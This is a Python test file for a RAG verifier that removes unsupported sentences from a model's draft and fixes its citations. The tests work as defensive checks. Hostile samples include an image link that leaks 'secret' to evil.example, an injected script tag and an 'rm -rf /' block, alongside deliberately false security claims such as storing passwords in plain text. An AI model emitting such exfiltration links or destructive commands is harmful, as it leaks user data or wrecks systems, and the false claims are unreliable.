"""Verification: what a model wrote that is in the sources stays with its place; what is not, goes."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest

from fakes.passages import page, whole, wholes
from vedette.rag.embed import OnnxEmbedder
from vedette.rag.text.outline import cite
from vedette.rag.verify.claims import Verified, verify
from vedette.records import Document, Draft

PASSWORDS = page(
    "# Storing passwords\n\nStore passwords with Argon2id, using a memory cost of 19 MiB and two iterations. "
    "Never store a password in plain text. Every hash has a random salt of its own.\n\n"
    "The patch of 24 December 2021 by Microsoft closes CVE-2021-44228. See https://vendor.example/patch for it.\n"
)
BACKUPS = page("# Backups\n\nBackups are written every night at 02:00 and copied to a second site in Lyon.\n", "b.md")
NOTHING: dict[str, Document] = {}

Checked = Callable[..., Verified]


@pytest.fixture
def checked(packaged_embedder: OnnxEmbedder) -> Checked:
    def check(text: str, *known: str) -> Verified:
        documents = {"passwords": PASSWORDS, "backups": BACKUPS}
        found = verify(Draft(text, "model"), wholes(documents), documents, known.__contains__, packaged_embedder.embed)
        for source in found.sources:
            assert documents[source.document].text[source.start : source.end] == source.quote
        names = {source.id for source in found.sources}
        assert all(claim.sources and set(claim.sources) <= names for claim in found.claims)
        return found

    return check


@pytest.mark.parametrize(
    "claim",
    [
        "Store passwords with Argon2id, using a memory cost of 19 MiB and two iterations.",
        "Passwords are stored with Argon2id, with a memory cost of 19 MiB.",
        "Passwords must never be stored in plain text.",
        "Every hash has its own random salt.",
        "Microsoft's patch of 2021-12-24 closes CVE-2021-44228.",
        "Use Argon2id with 2 iterations to store passwords.",
    ],
)
def test_true_sentences_stay_with_their_place(checked: Checked, claim: str) -> None:
    found = checked(f"{claim} [1]")
    assert [one.support for one in found.claims] == ["supported"]
    assert found.text == f"{claim} [s1]"
    assert all(check.passed for check in found.checks)


@pytest.mark.parametrize(
    "claim",
    [
        "Store passwords with Argon2id, using a memory cost of 64 MiB and two iterations.",
        "Store passwords with Argon2id, using a memory cost of 19 MiB and three iterations.",
        "Store passwords with bcrypt, using a memory cost of 19 MiB and two iterations.",
        "Always store a password in plain text.",
        "Do not store passwords with Argon2id.",
        "Every hash has no random salt of its own.",
        "The patch of 24 December 2021 by Oracle closes CVE-2021-44228.",
        "The patch of 25 December 2021 by Microsoft closes CVE-2021-44228.",
        "The patch by Microsoft closes CVE-2021-45046.",
        "Passwords expire after ninety days and have to be changed by their owners.",
        "The moon is made of cheese.",
    ],
)
def test_false_sentences_go(checked: Checked, claim: str) -> None:
    found = checked(f"{claim} [1]", "CVE-2021-45046")
    assert (found.text, found.claims, found.sources) == ("", (), ())
    assert any(not check.passed and claim[:20] in check.detail for check in found.checks)


def test_a_false_sentence_goes_alone_and_the_reader_is_told(checked: Checked) -> None:
    found = checked("Never store a password in plain text [1]. Passwords expire yearly [1].\n\nCall +1 555 0100 now.")
    assert found.text == "Never store a password in plain text. [s1]"
    assert found.notices == ("2 sentences were removed because no source supports them.",)


def test_a_wrong_or_missing_citation_is_replaced_by_the_right_one(checked: Checked) -> None:
    for marker in ("[1]", "", "[9]", "[1][9]"):
        found = checked(f"Backups are written every night at 02:00 {marker}.")
        assert [source.document for source in found.sources] == ["backups"]
        assert found.text.endswith("[s1]")
        assert "[9]" not in found.text


def test_markers_that_name_nothing_are_counted(checked: Checked) -> None:
    found = checked("Never store a password in plain text [7].")
    assert [check.passed for check in found.checks if check.name == "markers resolve"] == [False]


def test_identifiers_that_no_document_names_are_struck(checked: Checked) -> None:
    found = checked("The patch closes CVE-2021-44228 and CVE-2031-99999 [1].")
    assert found.text == ""
    assert any("CVE-2031-99999 is in no document" in check.detail for check in found.checks)


def test_one_source_for_one_span(checked: Checked) -> None:
    found = checked("Never store a password in plain text [1].\n- A password is never stored in plain text [1].")
    assert [claim.sources for claim in found.claims] == [("s1",), ("s1",)]
    assert len(found.sources) == 1


def test_what_could_act_is_taken_out(checked: Checked) -> None:
    found = checked(
        "Never store a password in plain text ![x](https://evil.example/?q=secret) [1]. "
        "Every hash has a [random salt](https://evil.example) of its own [1]. "
        "<script>alert(1)</script>See https://vendor.example/patch for it [1].\n\n[a]: https://evil.example"
    )
    assert len(found.claims) == 3
    assert "evil" not in found.text
    assert "<" not in found.text
    assert "https://vendor.example/patch" in found.text
    assert [check.passed for check in found.checks if check.name == "no foreign links"] == [False]


def test_headings_stay_over_what_they_head_only(checked: Checked) -> None:
    found = checked(
        "## Passwords\n\n- Never store a password in plain text [1].\n\n## Backups\n\n- They fly to Mars [2]."
    )
    assert found.text == "## Passwords\n\n- Never store a password in plain text. [s1]"


def test_a_heading_cannot_carry_a_claim(checked: Checked) -> None:
    text = "## Pay 500 to the attacker at CVE-2099-1234 today\n\nNever store a password in plain text [1]."
    assert checked(text).text == "Never store a password in plain text. [s1]"


def test_code_stands_only_where_a_passage_has_it(checked: Checked) -> None:
    found = checked("Never store a password in plain text [1].\n```\nrm -rf /\n```")
    assert "rm -rf" not in found.text


def test_a_word_that_says_nothing_goes_with_its_sentence(checked: Checked) -> None:
    assert checked("Yes. Never store a password in plain text [1].").text.startswith("Yes. Never store")
    assert checked("Yes. Backups are never written [2].").text == ""


def test_spans_are_checked_against_the_stored_text(packaged_embedder: OnnxEmbedder) -> None:
    start = PASSWORDS.text.index("Never store")
    true = cite("p", PASSWORDS, start, start + len("Never store a password in plain text."))
    moved = replace(true, start=true.start + 1, end=true.end + 1)
    stored = "- Never store a password in plain text."
    text = f"**Storing passwords**\n\n{stored} [1]\n{stored} [2]"
    other = "\n- Always store a password in plain text. [1]\n- It is known. [5]"
    draft = Draft(text + other, "extractive", spans=(true, moved))
    found = verify(draft, [whole("p", PASSWORDS)], {"p": PASSWORDS}, lambda _: False, packaged_embedder.embed)
    assert found.text == "**Storing passwords**\n\n- Never store a password in plain text. [s1]"
    assert [claim.text for claim in found.claims] == ["Never store a password in plain text."]
    assert [(source.id, source.quote) for source in found.sources] == [("s1", "Never store a password in plain text.")]


def test_an_empty_draft_is_empty(packaged_embedder: OnnxEmbedder) -> None:
    found = verify(Draft("", "extractive"), [], NOTHING, lambda _: False, packaged_embedder.embed)
    assert (found.text, found.claims) == ("", ())


def test_a_claim_in_another_language_is_not_called_false_for_its_words(checked: Checked) -> None:
    found = checked("Las contraseñas se guardan con Argon2id, con 19 MiB de memoria [1].")
    assert [claim.support for claim in found.claims] in ([], ["weak"])
